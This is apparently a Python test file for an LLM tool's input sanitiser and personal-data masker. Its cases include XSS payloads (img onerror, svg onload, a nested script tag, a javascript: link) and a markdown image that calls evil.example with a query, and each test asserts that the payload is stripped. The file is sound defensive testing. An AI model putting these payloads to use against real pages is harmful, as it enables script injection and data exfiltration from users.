"""Nothing that runs, links or hides comes in; nothing that names or reaches a person goes out."""

from __future__ import annotations

import re

import pytest

from llm.masking import masked
from llm.plain import plain


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("depth < 300 mm and > 100 mm", "depth < 300 mm and > 100 mm"),
        ("<img src=x onerror=alert(1)>Wall", "Wall"),
        ("<scr<script>ipt>alert(1)</script>Wall", "< scr Wall"),
        ("![logo](https://evil.example/?q=bill) Wall", "logo Wall"),
        ("[click](javascript:alert(1)) Wall", "click Wall"),
        ("see www.evil.example or https://evil.example/x now", "see or now"),
        ("data:text/html;base64,AAAA Wall", "Wall"),
        ("بلاط\u202e سيراميك\u200b", "بلاط سيراميك"),
        ("two\nlines\tand\x00nul", "two lines andnul"),
        ("ratio 1:2:4 by volume", "ratio 1:2:4 by volume"),
        ("item [3] of (B)", "item [3] of (B)"),
    ],
)
def test_text_comes_in_plain(text, kept):
    assert plain(text) == kept


def test_text_comes_in_short():
    assert len(plain("long " * 10_000)) == 600


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Contact ali.hassan@firm.example for keys", "Contact [email] for keys"),
        ("call +971 50 123 4567 today", "call [phone] today"),
        ("call 00971-4-123-4567 today", "call [phone] today"),
        ("Tel: 04 123 4567", "Tel: [phone]"),
        ("тел. 8 (495) 123-45-67", "тел. [phone]"),
        ("8(495)123-45-67", "[phone]"),
        ("هاتف: ٠٥٠١٢٣٤٥٦٧", "هاتف: [phone]"),
        ("جوال 0501234567", "جوال [phone]"),
        ("pay to GB82 WEST 1234 5698 7654 32 now", "pay to [iban] now"),
        ("pay to DE89370400440532013000", "pay to [iban]"),
    ],
)
def test_personal_data_is_masked(text, kept):
    assert masked(text) == kept


@pytest.mark.parametrize(
    "text",
    [
        "03 30 00 Cast-in-place concrete",
        "Pipe 150 x 150 x 12.5 mm, 6000 mm long",
        "ГЭСН 01-01-013-14, 06-01-001-01",
        "drawing A-1001-2002-3003",
        "1,234,567.00",
        "AC14 surf 40/60 des 2500000 m2",
        "ФЕР46-03-009-01",
        "item 0.15000000 t",
        "Beam 1234567890 kg",
        "telecom outlets 4 no.",
    ],
)
def test_figures_of_the_trade_are_left_alone(text):
    assert masked(text) == text


@pytest.mark.parametrize(
    "said", ["wall <img src=x onerror=alert(1)", "wall <svg/onload=alert(1) <b", "wall </", "wall <!--"]
)
def test_a_tag_or_a_link_that_is_never_closed_opens_nothing(said):
    assert not re.search(r"<[a-zA-Z/!?]|\]\(", plain(said))
    assert plain(said).startswith("wall")


def test_a_comparison_stays_one():
    assert plain("thickness < 200 mm and > 100 mm, grade <C30") == "thickness < 200 mm and > 100 mm, grade < C30"
